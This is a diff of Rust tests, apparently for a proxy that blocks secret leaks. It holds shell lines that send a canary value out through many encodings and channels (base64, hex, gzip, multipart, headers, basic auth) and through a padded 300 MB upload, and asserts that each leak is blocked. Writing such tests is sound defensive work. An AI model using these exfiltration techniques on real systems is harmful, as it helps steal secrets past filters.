@@ -24,8 +24,8 @@ fn ways_out() {
          say -G $u --data-urlencode \"q=$value\"; say $u -H \"x-note: $value\"\n\
          printf '%s' \"$value\" > f; say $u -F file=@f; say $u -F 'file=@f;encoder=base64'\n\
          printf '%s' \"$value\" | gzip > f.gz; say $u -H 'content-encoding: gzip' --data-binary @f.gz\n\
-         printf '%s' \"$value\" | base64 > f.b64; say $u --data-binary @f.b64\n\
-         printf '%s' \"$value\" | od -An -tx1 | tr -d ' \\n' > f.hex; say $u --data-binary @f.hex\n\
+         printf '%s' \"$value\" | base64 -w 10 > f.b64; say $u --data-binary @f.b64\n\
+         printf '%s' \"$value\" | od -An -tx1 > f.hex; say $u --data-binary @f.hex\n\
          printf '{{\"a\":\"Project\\\\u0020Nightingale\"}}' > f.json; say $u --data-binary @f.json\n\
          printf '%s' \"$value\" | say -T - $u; say -u \"me:$value\" $u\n\
          say $u -d 'key={SECRET}'; say $u -d '{NAME}'; cat answer"
@@ -99,15 +99,17 @@ fn large() {
         "data-large",
         json!({"outputs": {"CANARY": "block"}, "inputs": {"CANARY": "block"}}),
     );
-    // What the proxy uses is the supervisor's: the parent of the session's first process.
-    let done = scene.shell(&format!(
-        "head -c 300000000 /dev/zero | tr '\\0' u > upload\n\
+    let (stdout, growth) = scene.growth(&format!(
+        "curl -sS https://{WEB}/ -d small -o /dev/null; head -c 300000000 /dev/zero | tr '\\0' u > upload; touch ready\n\
          curl -sS -T upload https://{WEB}/status/200 -o /dev/null -w '%{{size_upload}} %{{http_code}}\\n'\n\
-         curl -sS https://{WEB}/bytes/300000000 | tr -d x | wc -c\n\
-         (cat upload; printf '{CANARY}') > leak; rm upload\n\
+         curl -sS https://{WEB}/bytes/300000000 | tr -d x | wc -c"
+    ));
+    assert_eq!(stdout, "300000000 200\n0\n");
+    assert!(growth < 20, "the supervisor grew by {growth} MiB");
+    let done = scene.shell(&format!(
+        "(cat upload; printf '{CANARY}') > leak; rm upload\n\
          curl -sS -T leak https://{WEB}/status/200 -o answer -w '%{{http_code}}\\n'; cat answer"
     ));
-    assert!(done.stdout.starts_with("300000000 200\n0\n"), "{done}");
     assert!(!scene.web_saw(CANARY), "{done}");
     let events = trail::events(&scene.area.remit_home());
     assert!(events.iter().any(|event| event["reason"] == "data_blocked"), "{done}");
